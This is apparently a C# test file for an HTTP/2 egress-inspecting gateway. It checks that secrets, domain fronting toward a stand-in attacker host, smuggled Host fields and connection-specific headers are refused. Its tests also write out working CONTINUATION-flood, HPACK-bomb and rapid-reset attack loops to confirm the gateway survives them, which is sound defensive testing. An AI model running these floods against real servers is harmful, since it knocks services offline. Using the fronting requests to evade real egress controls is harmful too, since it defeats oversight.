using System.Net;
using System.Text;
using CsCheck;

namespace Corral.Interception.Tests;

/// <summary>
/// HTTP/2 on decrypted flows: offered in ALPN, each stream one request through the same stages (decision, names,
/// inspection, records), a refusal that stream's own response; and the attacks HTTP/2 makes possible against a proxy
/// (CONTINUATION floods, HPACK bombs, rapid reset, connection-specific fields, :authority against the SNI) refused
/// with the gateway still serving.
/// </summary>
public sealed class Http2Tests : IAsyncLifetime
{
    private const string Key = "AKIAIOSFODNN7EXAMPLE"; // AWS's documented example key id, not a credential
    private InterceptionFixture _f = null!;

    public async ValueTask InitializeAsync() => _f = await InterceptionFixture.StartAsync();

    public async ValueTask DisposeAsync() => await _f.DisposeAsync();

    private HttpClient H2Client(Action<System.Security.Cryptography.X509Certificates.X509Certificate2>? seen = null)
    {
        var client = _f.Client(seen);
        client.DefaultRequestVersion = HttpVersion.Version20;
        client.DefaultVersionPolicy = HttpVersionPolicy.RequestVersionExact;
        return client;
    }

    [Fact]
    public async Task An_h2_client_gets_h2_and_its_request_is_decided_forwarded_and_recorded()
    {
        using var client = H2Client();
        using var response = await client.GetAsync("https://mcp.contoso.com/hello");
        Assert.Equal(HttpVersion.Version20, response.Version);
        Assert.Equal("hi", await response.Content.ReadAsStringAsync());
        var record = Assert.Single(_f.Records);
        Assert.Equal(("GET", "https://mcp.contoso.com/hello", true, 200), (record.Method, record.Url, record.Forwarded, record.Status));
        Assert.Equal("allow-tool-calls", record.Verdict.Rule?.Name);
        Assert.Equal("/hello", record.Path);
        Assert.Equal("part0;part1;part2;", await client.GetStringAsync("https://mcp.contoso.com/chunked")); // a chunked answer, unframed onto the stream
    }

    [Fact]
    public async Task A_denied_path_is_refused_as_its_own_stream_while_the_others_on_the_connection_complete()
    {
        var handshakes = 0;
        using var client = H2Client(_ => Interlocked.Increment(ref handshakes));
        using (var first = await client.GetAsync("https://api.github.com/repos/contoso/first")) // the one connection is up
            Assert.Equal("repo contoso/first", await first.Content.ReadAsStringAsync());
        var allowed = Enumerable.Range(0, 8).Select(i => client.GetAsync($"https://api.github.com/repos/contoso/r{i}")).ToList();
        var denied = client.GetAsync("https://api.github.com/repos/attacker/loot");
        using var refusal = await denied;
        Assert.Equal(HttpStatusCode.Forbidden, refusal.StatusCode);
        Assert.Equal(HttpVersion.Version20, refusal.Version);
        Assert.Equal("default-deny-internet", refusal.Headers.GetValues("X-Corral-Rule").Single());
        Assert.Contains("Do not retry", await refusal.Content.ReadAsStringAsync());
        for (var i = 0; i < allowed.Count; i++)
        {
            using var ok = await allowed[i];
            Assert.Equal($"repo contoso/r{i}", await ok.Content.ReadAsStringAsync());
        }
        Assert.Equal("repo contoso/after", await client.GetStringAsync("https://api.github.com/repos/contoso/after")); // the connection goes on
        Assert.Equal(1, handshakes);
        Assert.DoesNotContain(_f.UpstreamSaw, s => s.Contains("attacker"));
        Assert.Equal(11, _f.Records.Count);
        var record = Assert.Single(_f.Records, r => !r.Forwarded);
        Assert.Equal(("GET", "https://api.github.com/repos/attacker/loot", 403), (record.Method, record.Url, record.Status));
    }

    [Fact]
    public async Task A_secret_in_an_h2_request_body_is_refused_before_the_upstream_gets_it_whether_its_length_is_declared_or_not()
    {
        using var client = H2Client();
        using var declared = await client.PostAsync("https://mcp.contoso.com/echo", new StringContent($"{{\"k\":\"{Key}\"}}", Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.Forbidden, declared.StatusCode);
        Assert.Contains("aws-access-key", await declared.Content.ReadAsStringAsync());

        // No Content-Length: the body streams (chunked towards the upstream), scanned as it goes; the secret comes late.
        var padding = new string('a', 200_000);
        var streamed = new UnknownLengthContent(Encoding.ASCII.GetBytes($"{padding} k={Key} {padding}"));
        using var request = new HttpRequestMessage(HttpMethod.Post, "https://mcp.contoso.com/echo") { Content = streamed };
        Assert.Null(request.Content.Headers.ContentLength);
        using var late = await client.SendAsync(request);
        Assert.Equal(HttpStatusCode.Forbidden, late.StatusCode);
        Assert.Empty(_f.EchoCompleted);
        Assert.All(_f.Records, r => Assert.Equal("payload-inspection: the request carries aws-access-key", r.DeniedBy));
        Assert.Equal(2, _f.Records.Count);

        Assert.Equal("got 5", await (await client.PostAsync("https://mcp.contoso.com/echo", new StringContent("clean"))).Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task A_secret_in_a_request_trailer_is_refused_and_the_upstream_request_never_completes()
    {
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders, 1, H2Wire.Request("POST", "mcp.contoso.com", "/echo", ("te", "trailers"))));
        await wire.SendAsync(H2Wire.Frame(H2Wire.Data, 0, 1, "hello"u8));
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders | H2Wire.EndStream, 1, H2Wire.Literal("x-note", $"k={Key}")));
        var frames = await wire.ReadUntilAsync(fs => H2Wire.Ended(fs, 1), TimeSpan.FromSeconds(10));
        Assert.Contains("aws-access-key", H2Wire.Body(frames, 1));
        Assert.Equal("payload-inspection: the request carries aws-access-key", Assert.Single(_f.Records).DeniedBy);
        await Task.Delay(200);
        Assert.Empty(_f.EchoCompleted);
    }

    [Fact]
    public async Task A_clean_trailer_goes_upstream_in_the_last_chunk()
    {
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders, 1, H2Wire.Request("POST", "mcp.contoso.com", "/echo")));
        await wire.SendAsync(H2Wire.Frame(H2Wire.Data, 0, 1, "hello"u8));
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders | H2Wire.EndStream, 1, H2Wire.Literal("x-note", "fine")));
        var frames = await wire.ReadUntilAsync(fs => H2Wire.Ended(fs, 1), TimeSpan.FromSeconds(10));
        Assert.Equal("got 5", H2Wire.Body(frames, 1));
        Assert.True(Assert.Single(_f.Records).Forwarded);
    }

    [Fact]
    public async Task An_authority_that_differs_from_the_SNI_is_domain_fronting_and_is_refused_as_its_stream()
    {
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders | H2Wire.EndStream, 1, H2Wire.Request("GET", "collector.attacker.example", "/hello")));
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders | H2Wire.EndStream, 3, H2Wire.Request("GET", "mcp.contoso.com", "/hello")));
        var frames = await wire.ReadUntilAsync(fs => H2Wire.Ended(fs, 1) && H2Wire.Ended(fs, 3), TimeSpan.FromSeconds(10));
        Assert.Contains("domain fronting", H2Wire.Body(frames, 1));
        Assert.Equal("hi", H2Wire.Body(frames, 3));
        Assert.Equal(["GET mcp.contoso.com/hello"], _f.UpstreamSaw);
        Assert.Equal("name-mismatch", Assert.Single(_f.Records, r => !r.Forwarded).Refusal?.Check);
    }

    [Fact]
    public async Task A_host_field_beside_the_authority_never_routes_the_request()
    {
        // Kestrel lets :authority win over a Host field (RFC 9113 8.3.1); the upstream is told the name that was checked.
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders | H2Wire.EndStream, 1,
            H2Wire.Request("GET", "mcp.contoso.com", "/hello", ("host", "collector.attacker.example"))));
        var frames = await wire.ReadUntilAsync(fs => H2Wire.Ended(fs, 1), TimeSpan.FromSeconds(10));
        Assert.Equal("hi", H2Wire.Body(frames, 1));
        Assert.Equal(["GET mcp.contoso.com/hello"], _f.UpstreamSaw);
    }

    [Theory]
    [InlineData("keep-alive", "timeout=5")]
    [InlineData("proxy-connection", "keep-alive")]
    [InlineData("transfer-encoding", "chunked")]
    [InlineData("upgrade", "websocket")]
    public async Task A_connection_specific_field_is_refused_readably_and_recorded(string name, string value)
    {
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders | H2Wire.EndStream, 1, H2Wire.Request("GET", "mcp.contoso.com", "/hello", (name, value))));
        var frames = await wire.ReadUntilAsync(fs => H2Wire.Ended(fs, 1), TimeSpan.FromSeconds(10));
        Assert.Contains("connection-specific field", H2Wire.Body(frames, 1));
        Assert.Empty(_f.UpstreamSaw);
        var record = Assert.Single(_f.Records);
        Assert.Equal((false, 400, "malformed-request"), (record.Forwarded, record.Status, record.Refusal?.Check));
    }

    [Theory]
    [InlineData("connection", "keep-alive")]
    [InlineData("te", "gzip")]
    public async Task A_connection_specific_field_Kestrel_refuses_resets_the_stream_and_never_reaches_the_upstream(string name, string value)
    {
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders | H2Wire.EndStream, 1, H2Wire.Request("GET", "mcp.contoso.com", "/hello", (name, value))));
        var frames = await wire.ReadUntilAsync(fs => H2Wire.Ended(fs, 1) || H2Wire.GoneAway(fs), TimeSpan.FromSeconds(10));
        Assert.True(frames.Any(f => f.Type == H2Wire.RstStream && f.Stream == 1) || H2Wire.GoneAway(frames), "the stream is refused");
        Assert.DoesNotContain("hi", H2Wire.Body(frames, 1));
        Assert.Empty(_f.UpstreamSaw);
        await AssertStillServesAsync();
    }

    [Fact]
    public async Task A_CONTINUATION_flood_ends_the_connection_and_the_gateway_serves_on()
    {
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        await wire.SendAsync(H2Wire.Frame(H2Wire.Headers, 0, 1, H2Wire.Request("GET", "mcp.contoso.com", "/hello")));
        var sent = 0;
        var piece = H2Wire.Frame(H2Wire.Continuation, 0, 1, H2Wire.Literal("x-flood", new string('f', 1000)));
        try
        {
            // 50,000 frames (50 MB of headers) with no END_HEADERS: a server that buffers them all is the bug.
            for (; sent < 50_000; sent++) await wire.SendAsync(piece);
        }
        catch (IOException) { } // the gateway closed the connection under the flood
        var frames = await wire.ReadUntilAsync(H2Wire.GoneAway, TimeSpan.FromSeconds(10));
        Assert.True(H2Wire.GoneAway(frames) || sent < 50_000, "the flood was refused");
        Assert.False(H2Wire.Ended(frames, 1) && H2Wire.Body(frames, 1) == "hi");
        Assert.DoesNotContain(_f.Records, r => r.Forwarded);
        Assert.Empty(_f.UpstreamSaw);
        await AssertStillServesAsync();
    }

    [Fact]
    public async Task An_HPACK_bomb_is_refused_and_never_reaches_the_upstream()
    {
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        // One 4 KB field enters the dynamic table, then 4,000 one-byte references to it: 16 MB decoded from 8 KB sent.
        var block = new List<byte>(H2Wire.Request("GET", "mcp.contoso.com", "/hello"));
        block.AddRange(H2Wire.Indexed("x-bomb", new string('b', 4000)));
        for (var i = 0; i < 4000; i++) block.AddRange(H2Wire.Reference(62));
        var bytes = block.ToArray();
        var frames = new List<byte>(H2Wire.Frame(H2Wire.Headers, H2Wire.EndStream, 1, bytes.AsSpan(0, bytes.Length / 2)));
        frames.AddRange(H2Wire.Frame(H2Wire.Continuation, H2Wire.EndHeaders, 1, bytes.AsSpan(bytes.Length / 2)));
        try { await wire.SendAsync([.. frames]); } catch (IOException) { }
        var received = await wire.ReadUntilAsync(fs => H2Wire.Ended(fs, 1) || H2Wire.GoneAway(fs), TimeSpan.FromSeconds(10));
        Assert.NotEqual("hi", H2Wire.Body(received, 1));
        Assert.DoesNotContain(_f.Records, r => r.Forwarded); // refused by Kestrel before any stage: nothing went upstream
        Assert.True(H2Wire.GoneAway(received) || received.Any(f => f.Type == H2Wire.RstStream) || H2Wire.Ended(received, 1), "the request is answered or refused");
        Assert.Empty(_f.UpstreamSaw);
        await AssertStillServesAsync();
    }

    [Fact]
    public async Task Rapid_reset_is_cut_off_and_the_gateway_serves_on()
    {
        await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
        var block = H2Wire.Request("GET", "mcp.contoso.com", "/hello");
        const int Streams = 20_000;
        var batch = new List<byte>();
        var sent = 0;
        try
        {
            for (var i = 0; i < Streams; i++)
            {
                var id = 2 * i + 1;
                batch.AddRange(H2Wire.Frame(H2Wire.Headers, H2Wire.EndHeaders | H2Wire.EndStream, id, block));
                batch.AddRange(H2Wire.Frame(H2Wire.RstStream, 0, id, [0, 0, 0, 8])); // CANCEL
                if (batch.Count > 32_000)
                {
                    await wire.SendAsync([.. batch]);
                    batch.Clear();
                }
                sent = i + 1;
            }
            await wire.SendAsync([.. batch]);
        }
        catch (IOException) { }
        var frames = await wire.ReadUntilAsync(H2Wire.GoneAway, TimeSpan.FromSeconds(20));
        Assert.True(H2Wire.GoneAway(frames) || sent < Streams, "the gateway cut the connection off");
        // Bounded work: far fewer requests reached the upstream than streams were opened.
        Assert.True(_f.UpstreamSaw.Count < Streams / 4, $"{_f.UpstreamSaw.Count} of {Streams} reset streams reached the upstream");
        await AssertStillServesAsync();
    }

    [Fact]
    public async Task Generated_frame_sequences_never_crash_the_gateway_nor_reach_the_upstream_undecided()
    {
        string[] paths = ["/hello", "/echo", "/repos/attacker/loot", "*", "hello", "/%00"];
        string[] authorities = ["mcp.contoso.com", "collector.attacker.example", "mcp.contoso.com:443", ""];
        var header = Gen.OneOf<(string, string)>(("x-a", "1"), ("connection", "close"), ("content-length", "5"), ("te", "trailers"),
            ("transfer-encoding", "chunked"), ("host", "collector.attacker.example"), ("x-secret", Key));
        var block = Gen.Select(Gen.OneOf("GET", "POST", "CONNECT"), Gen.OneOf(authorities), Gen.OneOf(paths), header.Array[0, 3],
            (m, a, p, h) => H2Wire.Request(m, a, p, h));
        var frame = Gen.Select(Gen.Int[0, 10], Gen.Byte, Gen.OneOf(1, 3, 5, 0, 2), block, Gen.Byte.Array[0, 40], (type, flags, stream, headers, raw) =>
            H2Wire.Frame((byte)type, flags, stream, type is H2Wire.Headers or H2Wire.Continuation && flags % 2 == 0 ? headers : raw));
        var sequence = frame.Array[1, 8];
        await sequence.SampleAsync(async frames =>
        {
            await using var wire = await H2Wire.ConnectAsync(_f, "mcp.contoso.com");
            try
            {
                foreach (var f in frames) await wire.SendAsync(f);
            }
            catch (IOException) { }
            await wire.ReadUntilAsync(H2Wire.GoneAway, TimeSpan.FromMilliseconds(300));
        }, iter: 60, threads: 1);
        // Every request the upstream saw was decided and permitted: a forwarded record for each, none for another host or a denied path.
        await AssertStillServesAsync();
        Assert.DoesNotContain(_f.UpstreamSaw, s => s.Contains("attacker") || s.Contains("collector"));
        Assert.True(_f.UpstreamSaw.Count <= _f.Records.Count(r => r.Forwarded), $"{_f.UpstreamSaw.Count} upstream requests, {_f.Records.Count(r => r.Forwarded)} forwarded records");
    }

    [Fact]
    public async Task On_an_mcp_rule_each_h2_stream_carrying_a_call_is_decided_and_an_unlisted_tool_answered_by_id()
    {
        await using var f = await InterceptionFixture.StartAsync(InterceptionFixture.Policy.Replace("decrypt: allowed, ports: [443] }", "decrypt: allowed, ports: [443], mcp: { tools: [search_docs] } }"));
        using var client = f.Client();
        client.DefaultRequestVersion = HttpVersion.Version20;
        client.DefaultVersionPolicy = HttpVersionPolicy.RequestVersionExact;
        static StringContent Call(string tool) => new($$"""{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"{{tool}}","arguments":{} } }""", Encoding.UTF8, "application/json");
        var denied = client.PostAsync("https://mcp.contoso.com/echo", Call("send_email"));
        var allowed = client.PostAsync("https://mcp.contoso.com/echo", Call("search_docs"));
        using var answer = await denied;
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode); // a JSON-RPC error answered by id, as on HTTP/1.1
        var text = await answer.Content.ReadAsStringAsync();
        Assert.Contains("\"id\":7", text);
        Assert.Contains("\"error\"", text);
        using var ok = await allowed;
        Assert.StartsWith("got ", await ok.Content.ReadAsStringAsync());
        Assert.Single(f.EchoCompleted); // only the listed tool's call reached the server
        var record = Assert.Single(f.Records, r => r.Mcp?.Denied == true);
        Assert.Equal("send_email", record.Mcp!.Tool);
    }

    /// <summary>A body whose length is not known ahead: HttpClient sends it without Content-Length.</summary>
    private sealed class UnknownLengthContent(byte[] bytes) : HttpContent
    {
        protected override Task SerializeToStreamAsync(Stream stream, TransportContext? context) => stream.WriteAsync(bytes).AsTask();

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }

    private async Task AssertStillServesAsync()
    {
        using var client = H2Client();
        using var response = await client.GetAsync("https://mcp.contoso.com/hello");
        Assert.Equal(HttpVersion.Version20, response.Version);
        Assert.Equal("hi", await response.Content.ReadAsStringAsync());
    }
}
